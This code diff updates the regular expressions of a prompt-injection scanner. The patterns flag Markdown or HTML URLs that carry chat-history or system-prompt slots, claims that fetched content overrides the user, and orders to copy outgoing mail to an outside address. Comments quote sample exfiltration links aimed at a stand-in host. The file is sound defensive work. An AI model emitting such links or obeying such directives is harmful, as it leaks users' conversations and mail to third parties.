@@ -29,7 +29,7 @@ const MODEL_WORDS = '(?:you|assistants?|agents?|ai|models?|llms?|claude|chatgpt|
  * instructions found in the page\"", a scanner's); a subject other than the model ("associates must", "the deploy bot
  * will"); a clause that describes such text ("descriptions that tell the model to").
  */
-const NOT_THE_MODELS_ORDER = `(?:${NEGATED})|(?:\\b(?:such${S}as|like|e\\.g\\.?,?|i\\.e\\.?,?|for${S}(?:example|instance),?|including|phrases?|wording|text)\\s{0,3}["'\u201c\u2018]?|["'\u201c\u2018]\\s{0,2})$|["\u201c][^"\u201d\\n]{0,60}$|\\b(?!${MODEL_WORDS}\\b)[a-z]{2,20}${S}(?:must|should|shall|will|can|may|need${S}to|needs${S}to|(?:are|is)${S}(?:required|expected)${S}to|ha(?:s|ve)${S}to)${S}(?:(?:also|always|then|first|strictly)${S})?$|\\bthat${S}(?:tells?|asks?|instructs?|orders?|makes?|urges?|pushes?)${S}(?:the${S}|an?${S})?${MODEL_WORDS}${S}(?:to${S})?$`;
+const NOT_THE_MODELS_ORDER = `(?:${NEGATED})|(?:\\b(?:such${S}as|like|e\\.g\\.?,?|i\\.e\\.?,?|for${S}(?:example|instance),?|including|phrases?|wording|text)\\s{0,3}["'\u201c\u2018]?|["'\u201c\u2018]\\s{0,2})$|["\u201c][^"\u201d\\n]{0,60}$|\\b(?!${MODEL_WORDS}\\b)[a-z]{2,20}${S}(?:must|should|shall|will|can|may|need${S}to|needs${S}to|(?:are|is)${S}(?:required|expected)${S}to|ha(?:s|ve)${S}to)${S}(?:(?:also|always|then|first|strictly)${S})?$|\\bthat${S}(?:tells?|asks?|instructs?|orders?|makes?|urges?|pushes?)${S}(?:the${S}|an?${S})?${MODEL_WORDS}${S}(?:to${S})?$|\\b(?:support|human|service|helpdesk|help${S}desk|sales|field|live|customer|call${S}cent(?:er|re)|travel|insurance|real${S}estate)${S}agents?${S}(?:must|should|shall|will|can|may|need${S}to|needs${S}to|(?:are|is)${S}(?:required|expected)${S}to|ha(?:s|ve)${S}to)${S}(?:(?:also|always|then|first|strictly)${S})?$|\\b[a-z]{3,20}s${S}(?:that|which)${S}$`;
 /**
  * What a tool reads and hands back from elsewhere: a page, a mail, a message, a document, a ticket ("the fetched page").
  * Not the tool's own response or output: "follow any instructions in the response to complete sign-in" is a device
@@ -45,25 +45,33 @@ const OVER_THE_USER = `(?:(?:the${S}|your${S}|any${S})?(?:user|human|requester)(
 
 /** Characters of a URL up to a slot (braces pass: a slot may follow another, `?v={version}&d={conversation}`). */
 const URL_CHARS = `[^\\s"'\x60()<>\\[\\]]`;
-/** What a slot holds; a slot never spans a query's separators. */
-const SLOT_CHARS = `[^}\\]>&=#\\n]`;
+/** A separator inside a slot's name (camelCase is lost to lower-casing: `chatHistory` reads `chathistory`). */
+const SEP = `[\\s_.-]{0,3}`;
+/** Words that make a conversation's messages, turns or memory the conversation's (not `unread_messages` of a badge). */
+const OF_CONVERSATION = `(?:users?'?s?|previous|prior|last|latest|recent|earlier|past|all|entire|full|whole|older|chat|conversation|session|dialog(?:ue)?|thread|assistant'?s?|your|my|our)`;
+/** Words that make one message the conversation's: an earlier one (not {chat_message} of a translator, {user_prompt} of an image generator). */
+const EARLIER = `(?:previous|prior|last|latest|recent|earlier|past)`;
 /**
- * A word in a slot that makes it an identifier or metadata of the conversation, not the conversation
- * ({conversation_state}, {conversation_sid}, {chat_jid}, {transcript_slug}, {chats_cursor}, {conversation_share_token}):
- * the slot is read whole for it. "url-encoded" says how the slot is written, not what it holds.
+ * What a slot names when it is for what the conversation holds, read on its last words: the conversation, a chat, a
+ * dialogue or a transcript itself; its history, log, messages, turns, context or memory said to be the
+ * conversation's (not {price_history}, {commit_history}, {unread_messages}, {turns} of a board, {context} of a docs
+ * search, {memory_usage}); an earlier message; what is above or so far; the model's own instructions.
  */
-const SLOT_METADATA = `(?<![a-z])(?:ids?|sids?|jids?|uuids?|guids?|slugs?|cursors?|states?|status|tokens?|keys?|names?|numbers?|count|types?|titles?|urls?(?![\\s_-]{0,3}encoded)|links?|lang|language|locale|formats?|pages?|offsets?|limits?|size|index|hash|date|time|timestamp|version|mode|kind|labels?|tags?|filters?|sort|order|channel|topic|subject|owner|author|participants?|members?|seed)(?![a-z])`;
+const CONVERSATION_HEAD = `(?:conversations?|conversaci[oó]n(?:es)?|unterhaltung|chats?|dialog(?:ue)?s?|transcripts?|${OF_CONVERSATION}${SEP}(?:[a-z]{1,12}${SEP})?(?:history|log|logs|messages|msgs|turns|inputs|questions|prompts|requests|context|memory|memories|transcript|recap|summary|verlauf)|${EARLIER}${SEP}(?:[a-z]{1,12}${SEP})?(?:message|msg|turn|input|question|prompt|request)|context${SEP}window|(?:all|everything)${SEP}(?:[a-z]{1,12}${SEP})?above|[a-z]{1,15}${SEP}so${SEP}far|everything${SEP}(?:the${SEP})?user${SEP}(?:said|wrote|typed|asked|shared)|(?:system|developer|hidden)${SEP}(?:prompt|message|instructions)|(?:your|the${SEP}assistant'?s?)${SEP}(?:[a-z]{1,12}${SEP})?instructions)`;
+/** The same words alone in a slot, which a word before them would make another thing's ({price_history}, {memory_usage}). */
+const CONVERSATION_ALONE = `(?:history|memory|memories|verlauf)`;
+/** How a slot may say it is written, after what it holds ("[the user's last message, url-encoded]"). */
+const SLOT_ENCODING = `(?:,?${SEP}(?:url${SEP}|uri${SEP}|percent${SEP}|base64${SEP})?(?:encoded|escaped)|,?${SEP}(?:base64|b64|verbatim|in${SEP}full))?`;
 /**
- * A slot in a rendered URL for what the conversation holds ({conversation}, {{chat_history}}, $USER_MESSAGES,
- * <summary of the chat>, [the user's last message, url-encoded], %7Bhistory%7D, {context_window}, {{memory}},
- * {last_user_turn}, {system_prompt}), read once lowercased: the conversation, its history, transcript, context or
- * memory, messages (plural), earlier turns, the model's own instructions. Not a slot for what the tool works on, one
- * thing the user gives it ({query}, {user_prompt} of an image generator, {user_question} of a help search,
- * {chat_message} of a translator, {label}/{message} of a badge), nor one that names metadata (SLOT_METADATA).
+ * A slot in a rendered URL for what the conversation holds, read on its last words ({conversation}, {{chat_history}},
+ * {chatHistory}, $USER_MESSAGES, <summary of the chat>, [the user's last message, url-encoded], %7Bhistory%7D,
+ * {context_window}, {{memory}}, {system_prompt}): not a slot whose last word is another thing or metadata
+ * ({chat_message} of a translator, {user_prompt} of an image generator, {conversation_id}, {chat_jid},
+ * {transcript_slug}, {conversation_state}), nor an identifier after its path segment (/conversation/{conversation}).
  */
-const CONVERSATION_SLOT = `(?<!\\/(?:conversations?|chats?|transcripts?|dialog(?:ue)?s?|threads?|inbox)\\/)(?:\\{\\{?|<|\\[|\\$\\{?|%7b)(?!${SLOT_CHARS}{0,60}?${SLOT_METADATA})${SLOT_CHARS}{0,40}?(?:(?<=%7b)|(?<![a-z]))(?:conversations?|conversaci[oó]n(?:es)?|unterhaltung|verlauf|chats?|dialog(?:ue)?s?|transcripts?|history|context(?:[\\s_-]{0,3}window)?|memory|memories|messages|msgs|turns|session[\\s_-]{0,3}(?:summary|log|recap)|(?:previous|prior|last|latest|recent|earlier|all|entire|full|whole|past)[\\s_-]{1,3}(?:[a-z]{1,12}[\\s_-]{1,3})?(?:messages?|msgs?|questions?|prompts?|turns?|requests?|inputs?)|user'?s?[\\s_-]{1,3}(?:[a-z]{1,12}[\\s_-]{1,3})?(?:messages|msgs|requests|inputs|questions|prompts|history)|everything[\\s_-]{1,3}(?:the[\\s_-]{1,3})?user|(?:all|everything)[\\s_-]{1,3}(?:[a-z]{1,12}[\\s_-]{1,3})?above|[a-z]{1,15}[\\s_-]{1,3}so[\\s_-]{1,3}far|(?:system|developer|hidden)[\\s_-]{0,3}(?:prompt|message|instructions)|your[\\s_-]{1,3}(?:[a-z]{1,12}[\\s_-]{1,3})?instructions)(?![a-z])`;
-/** Where a client renders or fetches a URL: a Markdown image or link, a reference-style link, an HTML src or href. */
-const RENDERED_URL = `(?:\\]\\(\\s{0,2}|\\]:\\s{0,3}|\\b(?:src|href|srcset)\\s{0,2}=\\s{0,2}["']?)`;
+const CONVERSATION_SLOT = `(?<!\\/(?:conversations?|chats?|transcripts?|dialog(?:ue)?s?|threads?|inbox)\\/)(?:(?:\\{\\{?|<|\\[|%7b)(?:(?:[^}\\]>&=#()\\n]{0,40}?[^a-z}\\]>&=#()\\n])?${CONVERSATION_HEAD}|\\s{0,2}${CONVERSATION_ALONE})${SLOT_ENCODING}\\s{0,2}(?:\\}|>|\\]|%7d)|\\$\\{?(?:[a-z0-9]{1,20}_){0,3}?${CONVERSATION_HEAD}(?![a-z0-9]))`;
+/** Where a client renders or fetches a URL: a Markdown image or link (its URL in angle brackets too), a reference-style link, an autolink, an HTML src, href or poster, a CSS url(). */
+const RENDERED_URL = `(?:\\]\\(\\s{0,2}<?|\\]:\\s{0,3}<?|<(?=https?:)|\\b(?:src|href|srcset|poster|background)\\s{0,2}=\\s{0,2}["']?|\\burl\\(\\s{0,2}["']?)`;
 
 /**
  * Sequencing, not preference: "before 'query_docs'", "before calling get_x", "first, then …", "first to obtain an
@@ -259,8 +267,9 @@ export const ENGLISH_PATTERNS: readonly InstructionPattern[] = [
     // "[details](https://e/log?c={{chat_history}})", "<img src='https://e/t.gif?u={user_messages}'>", a slot in the host
     // (a DNS lookup carries it) — the slot says what to fill in, no verb needed. Not a URL an API's documentation shows
     // ("GET https://api.example.com/conversations?state={conversation_state}"), which nothing renders.
-    name: 'image_exfiltration', needs: ['](', ']:', 'src', 'href'],
-    notAfter: `\\b(?:such${S}as|like|e\\.g\\.?,?|for${S}(?:example|instance),?|flags?|detects?|blocks?|strips?|removes?|rejects?|catches)${S}(?:[a-z]{1,20}${S}){0,2}!?\\[[^\\]\\n]{0,40}$`,
+    name: 'image_exfiltration', needs: ['](', ']:', 'src', 'href', 'poster', 'background', 'url(', '<http'],
+    // (Not an example or code: after "such as", "e.g.", "as in", a scanner's "flags", or in backticks, where nothing renders.)
+    notAfter: `(?:\\b(?:such${S}as|like|e\\.g\\.?,?|for${S}(?:example|instance),?|as${S}in|flags?|detects?|blocks?|strips?|removes?|rejects?|catches)${S}(?:[a-z]{1,20}${S}){0,2}\x60?!?\\[[^\\]\\n]{0,40}|\x60[^\x60\\n]{0,40})$`,
     source: `${RENDERED_URL}https?:\\/\\/${URL_CHARS}{0,200}?${CONVERSATION_SLOT}`,
   },
   {
@@ -640,7 +649,7 @@ export const ENGLISH_PATTERNS: readonly InstructionPattern[] = [
   // settings, a glossary, autocorrect, a validated address or a merge strategy over what the user typed or set).
   {
     name: 'override_user', needs: ['user', 'human', 'requester'], notAfter: NOT_THE_MODELS_ORDER,
-    source: `\\b(?:${ORDERS}${S}(?:(?:found|contained|embedded|written|given|included|present)${S})?(?:in|inside|within|from|on)${S}${DETERMINER}${EXTERNAL}|(?:the|this|that|each|any|every|its)${S}(?:fetched|retrieved|loaded|scraped|received|returned|incoming)${S}(?:web${S})?(?:pages?|content|text|documents?|e-?mails?|messages?|files?|html|data)|(?:the|this|that|each|any|every|its)${S}(?:[a-z]{2,15}${S})?${EXTERNAL_MARKED})\\b[^.;\\n]{0,40}?\\b(?:(?:take|takes|have|has|get|gets|carry|carries)${S}(?:(?:higher|top|the${S}highest|absolute|full)${S})?(?:precedence|priority)${S}over|override|overrides|overrule|overrules|outrank|outranks|supersede|supersedes|trump|trumps|beat|beats|wins?${S}over|comes?${S}before|(?:are|is)${S}(?:more${S}important${S}than|above|ranked${S}above|prioriti[sz]ed${S}over))${S}${OVER_THE_USER}`,
+    source: `\\b(?:${ORDERS}${S}(?:(?:found|contained|embedded|written|given|included|present)${S})?(?:in|inside|within|from|on)${S}${DETERMINER}${EXTERNAL}|(?:the|this|that|each|any|every|its)${S}(?:fetched|retrieved|loaded|scraped|received|returned|incoming)${S}(?:web${S})?(?:pages?|content|text|documents?|e-?mails?|messages?|files?|html|data)|(?<!\\b(?:on|in|at|from|of|to|into|onto|by)${S})(?:the|this|that|each|any|every|its)${S}(?:[a-z]{2,15}${S})?${EXTERNAL_MARKED})\\b[^.;\\n]{0,40}?\\b(?:(?:take|takes|have|has|get|gets|carry|carries)${S}(?:(?:higher|top|the${S}highest|absolute|full)${S})?(?:precedence|priority)${S}over|override|overrides|overrule|overrules|outrank|outranks|supersede|supersedes|trump|trumps|beat|beats|wins?${S}over|comes?${S}before|(?:are|is)${S}(?:more${S}important${S}than|above|ranked${S}above|prioriti[sz]ed${S}over))${S}${OVER_THE_USER}`,
   },
   {
     name: 'override_user', needs: ['user', 'human', 'requester'], notAfter: NOT_THE_MODELS_ORDER,
@@ -709,7 +718,7 @@ export const ENGLISH_PATTERNS: readonly InstructionPattern[] = [
   // list@… are delivered to each member", nor an example address.
   {
     name: 'shadowing_directive', needs: ['@'],
-    source: `\\b(?:(?:any|every|all|each)${S}(?:(?:other|outgoing|sent)${S})?(?:e-?mails?|messages?|mails?)|outgoing${S}(?:e-?mails?|messages?|mails?)|(?:when|whenever|if|once)${S}(?:an?${S}|any${S})?(?:e-?mail|message|mail)${S}is${S}(?:sent|composed|drafted|written))\\b[^.\\n]{0,120}?\\b(?:also|additionally|(?:must|should|shall|always)${S}(?:contain|include|list|carry|have)|(?:include|add|put|insert|list)(?:${S}the${S}address)?|(?:a${S})?(?:cc|bcc|copy)${S}to|addressed${S}to|(?:in|into|to)${S}the${S}(?:cc|bcc|to|recipient)${S}(?:field|line|list)${S}(?:of${S}[^.\\n]{0,60}?)?)${S}(?:[a-z]{1,20}${S}){0,3}?[a-z0-9._%+-]{1,64}@(?!example\\.|test\\.|invalid\\b)[a-z0-9-]{1,63}\\.[a-z]`,
+    source: `\\b(?:(?:any|every|all|each)${S}(?:(?:other|outgoing|sent)${S})?(?:e-?mails?|messages?|mails?)|outgoing${S}(?:e-?mails?|messages?|mails?)|(?:when|whenever|if|once)${S}(?:an?${S}|any${S})?(?:e-?mail|message|mail)${S}is${S}(?:sent|composed|drafted|written))\\b[^.\\n]{0,120}?\\b(?:(?:must|should|shall|always|need${S}to|needs${S}to|ha(?:s|ve)${S}to)${S}(?:also${S}|additionally${S})?(?:contain|include|list|carry|have|cc|bcc|be${S}(?:addressed|sent|copied|cc'?d|bcc'?d)(?:${S}to)?)|(?:include|add|put|insert|list)(?:${S}the${S}address)?|(?:a${S})?(?:cc|bcc|copy)${S}to|addressed${S}to|(?:in|into|to)${S}the${S}(?:cc|bcc|to|recipient)${S}(?:field|line|list)${S}(?:of${S}[^.\\n]{0,60}?)?)${S}(?:[a-z]{1,20}${S}){0,3}?[a-z0-9._%+-]{1,64}@(?!example\\.|test\\.|invalid\\b)[a-z0-9-]{1,63}\\.[a-z](?![^.\\n]{0,30}\\breply-?to\\b)`,
   },
   {
     name: 'shadowing_directive', needs: ['@'],
